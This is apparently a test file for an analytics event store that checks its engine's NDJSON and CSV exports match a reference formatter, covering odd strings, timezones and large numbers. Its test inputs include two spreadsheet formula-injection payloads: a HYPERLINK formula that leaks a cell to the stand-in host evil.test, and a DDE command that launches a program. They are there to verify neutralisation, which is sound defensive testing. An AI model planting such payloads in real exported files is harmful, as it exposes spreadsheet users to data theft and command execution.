import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatEvents } from '../../src/modules/event-export/event-formats.ts';
import { blankRow, type EventRow } from '../../src/modules/event-store/event-row.ts';
import type { EventStore, ExportFormat } from '../../src/modules/event-store/event-store.ts';
import { chosenEventStore, storeRows } from '../support/event-stores.ts';

/**
 * The engine writes the export's lines (docs/decisions/077): its bytes must be those of the JavaScript
 * formatter (event-formats.ts, the reference) for the same stored rows, odd values included, in both
 * formats, with and without `local_time`. Runs on DuckDB and, in the server-clickhouse project, on chdb.
 */

const ENGINE = process.env.EVENT_STORE ?? 'duckdb';
const PROJECT = 'p-engine-formats';
const T0 = Date.UTC(2026, 2, 29, 0, 30); // the night Europe/Berlin moves from +01:00 to +02:00

const ODD_TEXTS = [
  'plain',
  '',
  'quote " and backslash \\ and slash /',
  'line\nbreak\r\nand\ttab \b \f',
  'controls \u0001 \u0002 \u000b \u000e \u001a \u001f \u007f',
  'comma, "quoted", end',
  'unicode: é ü 中文 \u2028 \u2029 🦊',
  // Formula cells (neutralised in CSV) and plain numbers (left alone).
  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  "=cmd|'/C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1)',
  '\tTAB first',
  '\rCR first',
  '-32603',
  '+1.5',
  `-${'9'.repeat(80)}`,
  "'already quoted",
  '\\u0041 is not an escape',
  'x'.repeat(3_000),
];

function rows(): EventRow[] {
  return ODD_TEXTS.map((text, index) => ({
    ...blankRow({
      project_id: PROJECT,
      // Three rows share each millisecond: their order is the ids' (bytes, upper case first).
      id: ['b', 'a', 'B', 'é'][index % 4] + String(index).padStart(3, '0'),
      type: text,
      ts: T0 + Math.floor(index / 3) * 15 * 60_000 + (index % 3 === 2 ? 7 : 0),
      received_at: Date.UTC(2026, 0, 1) + index * 37_001,
      user_id: text,
      session_id: `s-${text}`,
      origin: 'app.example.com',
    }),
    path: text,
    title: index % 2 === 0 ? text : null,
    utm_source: text,
    props: index % 3 === 0 ? JSON.stringify({ note: text, n: index }) : null,
    chain_id: index % 3 === 0 ? null : ([1, 8453, 9_007_199_254_740_991, 0][index % 4] as number),
    error_code: [null, -32_603, 4001, -1][index % 4] ?? null,
    tx_value:
      index % 2 === 0 ? ([10n ** 30n + BigInt(index), 2n ** 127n - 1n, 0n][index % 3] as bigint) : null,
    gas_price: index % 5 === 0 ? -(2n ** 100n) : null,
  }));
}

async function text(parts: AsyncIterable<Buffer>): Promise<string> {
  const buffers: Buffer[] = [];
  for await (const part of parts) buffers.push(part);
  return Buffer.concat(buffers).toString('utf8');
}

describe(`the engine's export text (${ENGINE})`, () => {
  let dir: string;
  let store: EventStore;
  const range = { from: new Date(T0 - 3_600_000), to: new Date(T0 + 86_400_000) };

  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'polyflow-engine-formats-'));
    store = await chosenEventStore()({ dataDir: dir });
    await storeRows(store, rows());
  }, 60_000);

  afterAll(async () => {
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const cases: [ExportFormat, string | null][] = [
    ['ndjson', null],
    ['csv', null],
    ['ndjson', 'Europe/Berlin'],
    ['csv', 'Europe/Berlin'],
    ['csv', 'Asia/Kolkata'],
    ['ndjson', 'America/St_Johns'],
  ];
  for (const [format, timeZone] of cases) {
    it(`writes ${format}${timeZone ? ` with local_time in ${timeZone}` : ''} byte for byte as the reference formatter`, async () => {
      const engine = store.exportEvents(PROJECT, { ...range, text: { format, timeZone } });
      const batches = [];
      for await (const batch of engine) batches.push(batch);
      // Every batch is the engine's text: nothing was formatted on the JavaScript thread.
      expect(batches.length).toBeGreaterThan(0);
      expect(batches.every((batch) => batch.text !== undefined)).toBe(true);
      expect(batches.reduce((sum, batch) => sum + batch.rowCount, 0)).toBe(ODD_TEXTS.length);
      const fromEngine = await text(
        formatEvents(
          (async function* () {
            yield* batches;
          })(),
          format,
          timeZone,
        ),
      );
      const reference = await text(formatEvents(store.exportEvents(PROJECT, range), format, timeZone));
      expect(fromEngine.split(format === 'csv' ? '\r\n' : '\n').length).toBeGreaterThan(ODD_TEXTS.length);
      expect(fromEngine).toBe(reference);
    });
  }

  it('leaves no window file behind, whether the export is read to its end or left early', async () => {
    const folder = path.join(dir, 'export-tmp');
    const exported = store.exportEvents(PROJECT, { ...range, text: { format: 'csv', timeZone: null } });
    for await (const _ of exported) break;
    if (ENGINE === 'duckdb') expect(readdirSync(folder)).toEqual([]);
  });
});
